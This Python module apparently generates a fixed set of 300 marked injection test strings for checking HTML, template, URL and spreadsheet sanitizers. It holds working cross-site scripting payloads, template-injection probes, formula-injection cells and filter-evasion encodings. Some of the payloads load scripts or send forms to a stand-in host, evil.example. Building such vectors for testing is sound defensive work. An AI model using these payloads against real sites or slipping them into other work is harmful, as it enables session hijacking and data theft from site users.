"""Texts that try to become script: 300 of them, made from parts, each with a mark by which it is known again.

The mark stands wherever a parser could make something of the text: as the name of an element, of an attribute, as code.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

__all__ = ["mark", "vectors"]

_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`>", '"/>', "</select></p>")
_TAGS = (
    "<script>{m}()</script>",
    "<script src=//evil.example/{m}.js></script>",
    "<img src=x onerror={m}()>",
    "<svg onload={m}()>",
    "<svg><script>{m}()</script></svg>",
    "<svg><a xlink:href=javascript:{m}()><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,{m}#x></svg>",
    "<svg><foreignObject><{m} onclick={m}()></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror={m}()>",
    '<math href="javascript:{m}()">x</math>',
    "<iframe srcdoc='<script>{m}()</script>'></iframe>",
    "<iframe src=javascript:{m}()></iframe>",
    "<object data=data:text/html,{m}></object>",
    "<embed src=//evil.example/{m}>",
    "<style>@import '//evil.example/{m}';</style>",
    "<link rel=stylesheet href=//evil.example/{m}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
    "<base href=//evil.example/{m}/>",
    "<form action=//evil.example/{m}><button>x</button></form>",
    "<button formaction=javascript:{m}()>x</button>",
    "<input autofocus onfocus={m}()>",
    "<details open ontoggle={m}()>",
    "<video poster=javascript:{m}()><source onerror={m}()></video>",
    "<body onload={m}()>",
    "<table background=javascript:{m}()>",
    "<a href=javascript:{m}()>x</a>",
    "<{m} tabindex=1 onfocus={m}() autofocus>x</{m}>",
    "<div hx-get=/{m} hx-trigger=load hx-on:click={m}()>x</div>",
    "<div data-hx-post=/{m} data-hx-trigger=load>x</div>",
    "<template><{m}></template>",
    "<noscript><p title='</noscript><img src=x onerror={m}()>'>",
    "<textarea><{m}></textarea>",
    "<xmp><{m}></xmp>",
    "<plaintext><{m}>",
    "<!--><{m}-->",
    "<![CDATA[<{m}>]]>",
    "<?xml version='1.0'?><{m}/>",
    "<dialog open><form method=dialog><{m}></form></dialog>",
    "<marquee onstart={m}()>x</marquee>",
)
_ATTRIBUTES = (
    '" onmouseover={m}() x="',
    "' onfocus={m}() autofocus x='",
    '" autofocus hx-get="/{m}" hx-trigger="load" x="',
    '" style="background:url(//evil.example/{m})" x="',
    "\" {m}=1 '{m}=2 `{m}=3",
    " onclick={m}() ",
    '\\" onclick={m}() x=\\"',
    '" formaction="javascript:{m}()" x="',
    '" srcdoc="<{m}>" x="',
    "x\t{m}=y\n{m}=z",
)
_ADDRESSES = (
    "javascript:{m}()",
    "JaVaScRiPt:{m}()",
    "java\tscript:{m}()",
    "java\nscript:{m}()",
    "\x01javascript:{m}()",
    " javascript:{m}()",
    "javascript&colon;{m}()",
    "javascript&#58;{m}()",
    "&#106;avascript:{m}()",
    "javascript://https://a.example/%0a{m}()",
    "data:text/html,<script>{m}()</script>",
    "data:text/html;base64,{m}",
    "vbscript:{m}",
    "//evil.example/{m}",
    "/\\evil.example/{m}",
    "\\\\evil.example\\{m}",
    'https://a.example/{m}" onclick={m}() x="',
    "https://a.example/{m}'><{m}>",
    "https://a.example@evil.example/{m}",
    "http://[::1/{m}",
    "https:///{m}",
    "feed:javascript:{m}()",
    "blob:https://a.example/{m}",
    "file:///etc/{m}",
    "view-source:javascript:{m}()",
)
_TEMPLATES = (
    "{m}{{{{ 7*7 }}}}",
    "{m}{{{{ ''.__class__.__mro__ }}}}",
    "{m}{{% for x in y %}}",
    "{m}{{# x #}}",
    "{m}${{7*7}}",
    "{m}#{{7*7}}",
    "{m}<%= 7*7 %>",
    "{m}%(num)s %(name)s %d %",
    "{m}{{0.__class__}}",
    "{m}{{{{constructor.constructor('{m}()')()}}}}",
    "{m}$(`{m}`)",
)
_CELLS = ("={m}()", "+{m}()", "-{m}()", "@{m}()", "\t={m}()", '=HYPERLINK("//evil.example/{m}")', ";={m}", '"\n={m}()')
_CODE = (
    '"}};{m}();//',
    "';{m}();//",
    "\\';{m}();//",
    "`;{m}();`",
    '{{"@id": "javascript:{m}()"}}',
    "\\u003c{m}\\u003e",
    "\\x3c{m}\\x3e",
    "*/{m}/*",
    "}}{m}{{",
    "@article{{{m}, title={{x}}}}",
)


def _shapes(text: str) -> Iterator[str]:
    """One text in the disguises in which filters have let it through."""
    yield text
    yield text.upper().replace("{M}", "{m}")
    yield text.replace("<", "<\x00")
    yield text.replace(" ", "/").replace("=", "\x0c=")
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "%3C").replace(">", "%3E")
    yield text.replace("<", "&amp;lt;")
    yield text.replace("<", "＜").replace(">", "＞")
    yield text.replace("<", "\u202e<\u2066").replace(">", "\u2069>")
    yield text.replace("<", "<\u200b").replace("script", "scr\u00adipt")
    yield text.replace("<", "\u2028<").replace(">", ">\u2029")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "<<").replace(">", "")
    yield text.replace("script", "scr<script>ipt").replace("img", "im\x00g")
    yield text.replace("<", "<\ufeff").replace("s", "\u017f")
    yield text.replace("<", "\x1b[31m<").replace(">", ">\x07\x7f\x9b")


def mark(number: int) -> str:
    """By what the vector of a number is known."""
    return f"zq{number}qz"


def _all() -> Iterator[str]:
    plain = [*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_CELLS, *_CODE]
    yield from plain
    # Then each tag behind another way out of where it stands, and in another disguise.
    for number, text in enumerate(itertools.islice(itertools.cycle(_TAGS), 400)):
        shapes = list(_shapes(text))
        yield _OUT[number % len(_OUT)] + shapes[(number // len(_TAGS) + number) % len(shapes)]


def vectors(count: int = 300) -> list[str]:
    """`count` different vectors, the same every time; number n carries ``mark(n)``."""
    found = list(itertools.islice(dict.fromkeys(_all()), count))
    assert len(found) == count
    return [text.format(m=mark(n)) for n, text in enumerate(found)]
